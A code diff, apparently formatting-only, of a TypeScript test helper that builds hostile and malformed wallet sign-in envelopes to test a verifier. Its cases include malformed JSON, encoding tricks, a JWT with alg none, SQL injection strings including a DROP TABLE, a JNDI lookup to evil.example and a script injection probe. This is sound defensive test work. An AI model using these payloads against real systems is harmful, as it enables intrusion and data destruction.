@@ -10,7 +10,8 @@ const base64 = (text: string | Uint8Array) => Buffer.from(text).toString('base64
 export async function hostileEnvelopes(wallet: TestWallet): Promise<readonly Value[]> {
   // Of a length that takes padding, so that what is done to the padding is something else than leaving it away.
   let right = await presign(wallet);
-  for (let length = 1; !encodeEnvelope(right).endsWith('='); length += 1) right = await presign(wallet, { requestId: 'x'.repeat(length) });
+  for (let length = 1; !encodeEnvelope(right).endsWith('='); length += 1)
+    right = await presign(wallet, { requestId: 'x'.repeat(length) });
   const other = await presign(wallet, { domain: 'evil.example' });
   const { message: text, signature } = right;
   const json = JSON.stringify(right);
@@ -23,9 +24,25 @@ export async function hostileEnvelopes(wallet: TestWallet): Promise<readonly Val
 
   return [
     // JSON that is no envelope.
-    ...['null', 'true', '0', '1e999', '""', '"text"', '[]', '{}', '[[]]', '{"a":1}', '-', 'undefined', 'NaN', '{', '}', '{"message":', '\u0000'].map(
-      (content) => written(`of the JSON ${JSON.stringify(content)}`, content),
-    ),
+    ...[
+      'null',
+      'true',
+      '0',
+      '1e999',
+      '""',
+      '"text"',
+      '[]',
+      '{}',
+      '[[]]',
+      '{"a":1}',
+      '-',
+      'undefined',
+      'NaN',
+      '{',
+      '}',
+      '{"message":',
+      '\u0000',
+    ].map((content) => written(`of the JSON ${JSON.stringify(content)}`, content)),
     envelope('in a list', [right]),
     envelope('twice in a list', [right, right]),
     envelope('as a list of its values', [text, signature]),
@@ -40,7 +57,9 @@ export async function hostileEnvelopes(wallet: TestWallet): Promise<readonly Val
     envelope('with its signature named in capitals', { message: text, Signature: signature }),
     envelope('with spaces around its names', { ' message ': text, ' signature ': signature }),
     envelope('with its fields swapped', { message: signature, signature: text }),
-    ...[null, true, 0, 7, '', [], {}].map((odd) => envelope(`with the message ${JSON.stringify(odd)}`, { message: odd, signature })),
+    ...[null, true, 0, 7, '', [], {}].map((odd) =>
+      envelope(`with the message ${JSON.stringify(odd)}`, { message: odd, signature }),
+    ),
     envelope('with its message in a list', { message: [text], signature }),
     envelope('with its message in an object', { message: { text }, signature }),
     envelope('with its message as a list of lines', { message: text.split('\n'), signature }),
@@ -56,8 +75,14 @@ export async function hostileEnvelopes(wallet: TestWallet): Promise<readonly Val
       'with the right signature first and another after it',
       `{"message":${messageJson},"signature":${signatureJson},"signature":${JSON.stringify(other.signature)}}`,
     ),
-    written('with the right message first and null after it', `{"message":${messageJson},"signature":${signatureJson},"message":null}`),
-    envelope('with the message of one sign-in and the signature of another', { message: text, signature: other.signature }),
+    written(
+      'with the right message first and null after it',
+      `{"message":${messageJson},"signature":${signatureJson},"message":null}`,
+    ),
+    envelope('with the message of one sign-in and the signature of another', {
+      message: text,
+      signature: other.signature,
+    }),
     written('with a comma at its end', json.replace(/\}$/, ',}')),
     written('with a comment', `/* sign-in */${json}`),
     written('with single quotes', json.replaceAll('"', "'")),
@@ -71,21 +96,42 @@ export async function hostileEnvelopes(wallet: TestWallet): Promise<readonly Val
     written('behind the guard against JSON hijacking', `)]}',\n${json}`),
     written('in UTF-16', Buffer.from(json, 'utf16le')),
     written('in UTF-16 with a mark', Buffer.from(`\ufeff${json}`, 'utf16le')),
-    written('that is no UTF-8', Buffer.concat([Buffer.from(json.slice(0, 20)), Buffer.of(0xff, 0xfe, 0xc0, 0x80), Buffer.from(json.slice(20))])),
-    written('with an overlong encoding', Buffer.from(json.replace('wants', 'w\u0001ants').replace('\\u0001', ''), 'latin1').fill(0xc0, 30, 31)),
+    written(
+      'that is no UTF-8',
+      Buffer.concat([Buffer.from(json.slice(0, 20)), Buffer.of(0xff, 0xfe, 0xc0, 0x80), Buffer.from(json.slice(20))]),
+    ),
+    written(
+      'with an overlong encoding',
+      Buffer.from(json.replace('wants', 'w\u0001ants').replace('\\u0001', ''), 'latin1').fill(0xc0, 30, 31),
+    ),
     written(
       'with half a character in its message',
-      JSON.stringify({ message: text.replace('Solana', 'Sol\ud800ana').replace('Ethereum', 'Eth\ud800ereum'), signature }),
+      JSON.stringify({
+        message: text.replace('Solana', 'Sol\ud800ana').replace('Ethereum', 'Eth\ud800ereum'),
+        signature,
+      }),
     ),
     written('of 1,000 opened lists', '['.repeat(1000)),
     written('of 1,000 lists', '['.repeat(1000) + ']'.repeat(1000)),
     written('of 500 objects in each other', `${'{"a":'.repeat(500)}1${'}'.repeat(500)}`),
-    written('with 500 lists beside its fields and no signature', `{"message":${messageJson},"a":${'['.repeat(500)}${']'.repeat(500)}}`),
-    written('with 600 keys', JSON.stringify(Object.fromEntries(Array.from({ length: 600 }, (_, index) => [`k${index}`, 1])))),
+    written(
+      'with 500 lists beside its fields and no signature',
+      `{"message":${messageJson},"a":${'['.repeat(500)}${']'.repeat(500)}}`,
+    ),
+    written(
+      'with 600 keys',
+      JSON.stringify(Object.fromEntries(Array.from({ length: 600 }, (_, index) => [`k${index}`, 1]))),
+    ),
     written('of 4,000 spaces', ' '.repeat(4000)),
-    written('with a signature of 5,000 digits without quotes', `{"message":${messageJson},"signature":${'9'.repeat(5000)}}`),
+    written(
+      'with a signature of 5,000 digits without quotes',
+      `{"message":${messageJson},"signature":${'9'.repeat(5000)}}`,
+    ),
     written('of random bytes', Buffer.from(Array.from({ length: 300 }, (_, index) => (index * 137 + 91) % 256))),
-    written('that is packed with gzip', Buffer.from('1f8b0800000000000003ab56ca4d2d2e4e4c4f55b2520200d3b4a6d90e000000', 'hex')),
+    written(
+      'that is packed with gzip',
+      Buffer.from('1f8b0800000000000003ab56ca4d2d2e4e4c4f55b2520200d3b4a6d90e000000', 'hex'),
+    ),
     written('that is a token of JWT', `${base64('{"alg":"none"}')}.${base64(json)}.`),
 
     // The base64 around it.
@@ -142,6 +188,9 @@ export async function hostileEnvelopes(wallet: TestWallet): Promise<readonly Val
     ['a statement of SQL', "' OR 1=1 --"],
     ['a template', '${jndi:ldap://evil.example/a}'],
     ['markup', '<script>alert(1)</script>'],
-    envelope('with a message of SQL', { message: message(wallet, { statement: "'; DROP TABLE nonces; --" }), signature }),
+    envelope('with a message of SQL', {
+      message: message(wallet, { statement: "'; DROP TABLE nonces; --" }),
+      signature,
+    }),
   ];
 }
